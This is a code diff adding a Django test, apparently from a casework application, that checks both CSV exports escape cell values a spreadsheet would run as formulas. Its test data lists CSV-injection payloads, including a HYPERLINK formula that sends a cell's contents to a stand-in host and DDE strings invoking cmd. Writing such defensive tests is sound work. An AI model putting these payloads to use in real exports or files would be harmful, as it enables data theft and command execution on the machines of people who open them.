@@ -7,6 +7,7 @@ from rest_framework.authtoken.models import Token
 from rest_framework.test import APIClient
 
 from casework.choices import Kind, State
+from casework.models import Case
 
 
 def rows_of(response) -> list[list[str]]:
@@ -77,3 +78,40 @@ def test_the_api_exports_with_its_filters_and_refuses_bad_ones(client, world):
     client.force_login(world.supervisor)
     page = client.get("/cases/case/export.csv?state=nonsense", HTTP_ACCEPT_LANGUAGE="en")
     assert page.status_code == 400 and "state:" in page.content.decode()
+
+
+#: Subjects a spreadsheet would run as a formula (OWASP, "CSV Injection"), one per character.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_both_exports_neutralise_what_a_spreadsheet_would_run(client, world):
+    """A text cell that a spreadsheet would read as a formula starts with a single quote: the
+    page's export and the API's alike; dates and numbers are written as they are."""
+    cases = {}
+    for subject in FORMULAS:
+        case = world.register(subject="Đơn thử")
+        # Written as it stands: the form would strip a leading tab, but data also arrives by
+        # other ways (an import, an older version).
+        Case.objects.filter(pk=case.pk).update(subject=subject)
+        cases[case.reference] = subject
+    client.force_login(world.supervisor)
+    for response in (
+        client.get("/cases/case/export.csv", HTTP_ACCEPT_LANGUAGE="en"),
+        api(world.supervisor).get("/api/v1/cases/export/"),
+    ):
+        header, *rows = rows_of(response)
+        by_ref = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
+        assert set(by_ref) == set(cases)
+        for reference, subject in cases.items():
+            row = by_ref[reference]
+            assert row["Subject"] == "'" + subject, row
+            assert row["Round"] == "1" and row["Received on"][:2] == "20"  # untouched
+            for title, cell in row.items():
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (title, cell)
